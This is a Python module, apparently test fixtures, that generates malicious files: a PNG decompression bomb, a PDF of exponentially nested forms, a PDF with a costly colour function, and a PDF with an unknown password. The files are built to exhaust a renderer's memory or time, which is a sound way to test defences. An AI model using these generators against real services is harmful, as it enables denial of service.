"""Malicious files: they try to exhaust memory or time when they are rendered."""

import struct
import zlib


def png_bomb(side: int = 40_000) -> bytes:
    """Return an image of 1.6 billion pixels in two megabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    line = b"\0" * (1 + side // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(line) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """Return a PDF with these objects. The first one is the catalogue."""
    content, offsets = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    return content + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def growing_pdf(depth: int = 11, times: int = 12) -> bytes:
    """Return a PDF in which each form draws the previous one twelve times, which makes 12 to the 11th rectangles."""
    box = b"/Type/XObject/Subtype/Form/BBox[0 0 100 100]"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R/Resources<</XObject<</X %d 0 R>>>>>>"
        % (5 + depth),
        _stream(b"", b"/X Do"),
        _stream(box, b"0 0 10 10 re f"),
    ]
    for number in range(depth):
        resources = b"/Resources<</XObject<</X %d 0 R>>>>" % (5 + number)
        objects.append(_stream(box + resources, b"/X Do " * times))
    return pdf(objects)


def slow_pdf(operations: int = 2_000, times: int = 1_000) -> bytes:
    """Return a PDF with a colour function that computes thousands of sines per pixel, painted a thousand times."""
    function = b"{add %s dup dup}" % (b"sin " * operations)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 500 500]/Contents 4 0 R/Resources<</Shading<</S 5 0 R>>>>>>",
        _stream(b"", b"q 500 0 0 500 0 0 cm /S sh Q " * times),
        b"<</ShadingType 1/ColorSpace/DeviceRGB/Function 6 0 R>>",
        _stream(b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]", function),
    ]
    return pdf(objects)


def encrypted_pdf() -> bytes:
    """Return a PDF with an unknown password."""
    encryption = b"<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>" % (b"11" * 32, b"22" * 32)
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", encryption]
    return pdf(objects, b"/Encrypt 3 0 R/ID[<00><00>]")
